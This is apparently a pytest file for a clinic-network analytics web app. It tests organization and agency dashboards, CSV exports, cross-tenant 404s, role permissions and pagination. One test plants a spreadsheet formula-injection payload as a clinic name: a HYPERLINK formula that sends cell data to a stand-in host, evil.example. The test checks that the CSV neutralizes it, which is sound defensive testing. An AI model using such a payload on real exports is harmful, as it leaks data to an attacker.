"""The organization page compares branches and the agency page shows clients' health, each only
over the clinics the viewer's memberships cover; another organization or agency is a 404."""

from __future__ import annotations

import re

from saas.analytics import groups, jobs
from saas.delivery.models import Delivery
from saas.extensions import db
from saas.friends.models import Message
from saas.tenancy.scoping import tenant_scope
from tests.analytics.support import add_booking, add_friends, block, chart, csv_rows, japan_time, total
from tests.factories import gen_agency, gen_clinic, gen_organization, gen_user
from tests.helpers import login


def _network():
    agency = gen_agency(name="つなぐ代理店")
    corporation = gen_organization(agency, name="医療法人さくら会")
    east, west = gen_clinic(corporation, name="さくら東"), gen_clinic(corporation, name="さくら西")
    elsewhere = gen_clinic(gen_organization(agency, name="医療法人あおば会"), name="あおば")
    stranger = gen_clinic(gen_organization(gen_agency(name="他社"), name="他法人"), name="他院")
    add_friends(east.id, *[{"followed_at": japan_time(3)} for _ in range(4)])
    west_ids = add_friends(west.id, *[{"followed_at": japan_time(40)} for _ in range(10)])
    for friend_id in west_ids[:4]:
        block(west.id, friend_id, japan_time(1))
    add_booking(east.id, None, japan_time(2))
    add_friends(elsewhere.id, {"followed_at": japan_time(2)})
    add_friends(stranger.id, *[{"followed_at": japan_time(2)} for _ in range(9)])
    with tenant_scope(west.id):
        db.session.add(Delivery(title="お知らせ", status="done", started_at=japan_time(2), sent=6, failed=2))
        # an unanswered chat (the inbox counters open its conversation)
        db.session.add(Message(friend_id=west_ids[5], direction="in", kind="text", text="薬が合わない気がします"))
        db.session.commit()
    jobs.catch_up(60)
    return agency, corporation, east, west, elsewhere, stranger


def test_the_organization_page_compares_its_branches_with_a_csv_of_the_same_numbers(client):
    agency, corporation, east, west, elsewhere, stranger = _network()
    login(client, gen_user("analyst", organization=corporation))
    response = client.get(f"/analytics/organizations/{corporation.slug}/")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    friends = chart(html, "friends")
    assert friends["labels"] == [east.name, west.name]
    assert friends["友だち数"] == [4, 6] and friends["増減"] == [4, -4]
    assert chart(html, "block_rate")["ブロック率（%）"] == [0.0, 40.0]
    assert chart(html, "bookings")["予約"] == [1, 0]
    assert total(html, "friends") == "10"
    assert elsewhere.name not in html and stranger.name not in html
    assert "薬が合わない気がします" not in html
    header, *rows = csv_rows(client.get(f"/analytics/organizations/{corporation.slug}/friends.csv").data)
    assert rows == [[east.name, "4", "4"], [west.name, "6", "-4"]]


def test_the_agency_page_shows_each_clients_health(client):
    agency, corporation, east, west, elsewhere, stranger = _network()
    login(client, gen_user("admin", agency=agency))
    html = client.get(f"/analytics/agencies/{agency.slug}/").get_data(as_text=True)
    health = chart(html, "health")
    assert health["labels"] == sorted(
        [
            f"{corporation.name} / {east.name}",
            f"{corporation.name} / {west.name}",
            f"{elsewhere.organization.name} / {elsewhere.name}",
        ]
    )
    by_clinic = dict(zip(health["labels"], zip(health["未対応チャット"], health["送信失敗"], strict=True), strict=True))
    assert by_clinic[f"{corporation.name} / {west.name}"] == (1, 2)
    assert by_clinic[f"{corporation.name} / {east.name}"] == (0, 0)
    assert 'data-alert="block-rate"' in html  # 4 blocks of 10 friends in the last week at さくら西
    assert stranger.name not in html
    header, *rows = csv_rows(client.get(f"/analytics/agencies/{agency.slug}/health.csv").data)
    assert [row[0] for row in rows] == health["labels"]
    assert [row[1] for row in rows] == [str(n) for n in health["未対応チャット"]]


def test_members_of_another_organization_or_agency_get_404(client):
    agency, corporation, east, west, elsewhere, stranger = _network()
    login(client, gen_user("owner", organization=stranger.organization))
    assert client.get(f"/analytics/organizations/{corporation.slug}/").status_code == 404
    assert client.get(f"/analytics/organizations/{corporation.slug}/friends.csv").status_code == 404
    assert client.get(f"/analytics/agencies/{agency.slug}/").status_code == 404
    assert client.get("/analytics/organizations/no-such-org/").status_code == 404
    assert client.get(f"/analytics/elsewhere/{corporation.slug}/").status_code == 404


def test_clinic_level_roles_cannot_open_the_level_pages_above_their_clinic(client):
    agency, corporation, east, west, elsewhere, stranger = _network()
    for role in ("analyst", "owner", "admin", "sender"):
        login(client, gen_user(role, clinic=east))
        for url in (
            f"/analytics/organizations/{corporation.slug}/",
            f"/analytics/organizations/{corporation.slug}/friends.csv",
            f"/analytics/agencies/{agency.slug}/",
            f"/analytics/agencies/{agency.slug}/health.csv",
        ):
            assert client.get(url).status_code == 404, (role, url)
        assert "group-analytics" not in client.get("/").get_data(as_text=True)
        client.get("/auth/logout")


def test_hq_opens_its_organization_but_not_the_agency_and_a_viewer_nothing(client):
    agency, corporation, east, west, elsewhere, stranger = _network()
    login(client, gen_user("analyst", organization=corporation))
    assert client.get(f"/analytics/organizations/{corporation.slug}/").status_code == 200
    assert client.get(f"/analytics/organizations/{elsewhere.organization.slug}/").status_code == 404
    assert client.get(f"/analytics/agencies/{agency.slug}/").status_code == 404
    assert client.get(f"/analytics/agencies/{agency.slug}/health.csv").status_code == 404
    client.get("/auth/logout")
    login(client, gen_user("viewer", organization=corporation))
    assert client.get(f"/analytics/organizations/{corporation.slug}/").status_code == 404
    assert client.get(f"/analytics/organizations/{corporation.slug}/friends.csv").status_code == 404
    client.get("/auth/logout")
    login(client, gen_user("viewer", agency=agency))  # agency staff without analytics.view
    assert client.get(f"/analytics/agencies/{agency.slug}/").status_code == 404


def test_agency_staff_open_every_organization_under_their_agency_and_platform_staff_everything(client):
    agency, corporation, east, west, elsewhere, stranger = _network()
    login(client, gen_user("analyst", agency=agency))
    assert client.get(f"/analytics/organizations/{corporation.slug}/").status_code == 200
    assert client.get(f"/analytics/organizations/{elsewhere.organization.slug}/").status_code == 200
    assert client.get(f"/analytics/organizations/{stranger.organization.slug}/").status_code == 404
    client.get("/auth/logout")
    login(client, gen_user("owner"))  # platform
    assert client.get(f"/analytics/agencies/{agency.slug}/").status_code == 200
    assert client.get(f"/analytics/organizations/{stranger.organization.slug}/").status_code == 200


def test_the_home_page_links_the_levels_the_user_analyses(client):
    agency, corporation, east, west, elsewhere, stranger = _network()
    login(client, gen_user("analyst", agency=agency))
    html = client.get("/").get_data(as_text=True)
    assert f"/analytics/agencies/{agency.slug}/" in html
    assert f"/analytics/organizations/{corporation.slug}/" in html
    assert f"/analytics/organizations/{stranger.organization.slug}/" not in html


def test_a_clinic_name_that_looks_like_a_formula_is_not_one_in_the_csv(client):
    corporation = gen_organization(gen_agency(name="代理店"), name="医療法人")
    planted = gen_clinic(corporation, name='=HYPERLINK("http://evil.example/?"&A1,"クリック")')
    add_friends(planted.id, {"followed_at": japan_time(2)})
    jobs.catch_up(7)
    login(client, gen_user("admin", organization=corporation))
    for name in ("friends", "block_rate", "bookings"):
        header, *rows = csv_rows(client.get(f"/analytics/organizations/{corporation.slug}/{name}.csv").data)
        assert rows[0][0] == "'" + planted.name, name  # Excel shows the name; it does not evaluate it


def _shown_clinics(html: str) -> list[str]:
    body = html.split('data-testid="branches"')[1].split("</table>")[0]
    return re.findall(r'<tr data-clinic="([^"]+)"', body)


def _link(html: str, testid: str) -> str | None:
    found = re.search(rf'data-testid="{testid}" href="([^"]+)"', html)
    return found.group(1).replace("&amp;", "&") if found else None


def test_an_agency_with_many_clients_pages_its_table_sorts_it_and_charts_the_top_with_every_clinic_in_the_csv(client):
    agency = gen_agency(name="大きな代理店")
    corporation = gen_organization(agency, name="医療法人ひろがり会")
    clinics = [gen_clinic(corporation, name=f"院{n:02d}-") for n in range(groups.PAGE_SIZE + 5)]
    biggest = clinics[7]
    add_friends(biggest.id, *[{"followed_at": japan_time(2)} for _ in range(3)])
    add_friends(clinics[40].id, {"followed_at": japan_time(2)})
    jobs.catch_up(7)
    login(client, gen_user("owner", agency=agency))
    url = f"/analytics/agencies/{agency.slug}/"
    first = client.get(url).get_data(as_text=True)
    assert len(_shown_clinics(first)) == groups.PAGE_SIZE and _link(first, "branches-prev") is None
    second = client.get(_link(first, "branches-next")).get_data(as_text=True)
    assert _link(second, "branches-next") is None and _link(second, "branches-prev")
    shown = _shown_clinics(first) + _shown_clinics(second)
    assert sorted(shown) == sorted(c.slug for c in clinics) and len(shown) == len(set(shown))  # each once
    assert shown == [c.slug for c in sorted(clinics, key=lambda c: c.name)]  # by name
    # sorted by friends, largest first: the clinic with three friends, then the one with one
    by_friends = client.get(re.search(r'data-sort="friends" href="([^"]+)"', first).group(1).replace("&amp;", "&"))
    assert _shown_clinics(by_friends.get_data(as_text=True))[:2] == [biggest.slug, clinics[40].slug]
    # the charts draw the top CHART_TOP and say the CSV has all; the CSVs have every clinic
    friends = chart(first, "friends")
    assert len(friends["labels"]) == groups.CHART_TOP
    assert friends["labels"][:2] == [f"{corporation.name} / {biggest.name}", f"{corporation.name} / {clinics[40].name}"]
    assert friends["友だち数"][:3] == [3, 1, 0]
    assert len(chart(first, "health")["labels"]) == groups.CHART_TOP
    assert f"全{len(clinics)}件はCSVにあります" in first
    for name in ("friends", "block_rate", "bookings", "health"):
        header, *rows = csv_rows(client.get(f"{url}{name}.csv").data)
        assert len(rows) == len(clinics), name
    # a page number beyond the last shows the last page, an unknown sort the name order
    last = client.get(f"{url}?page=99&sort=nonsense").get_data(as_text=True)
    assert _shown_clinics(last) == _shown_clinics(second)
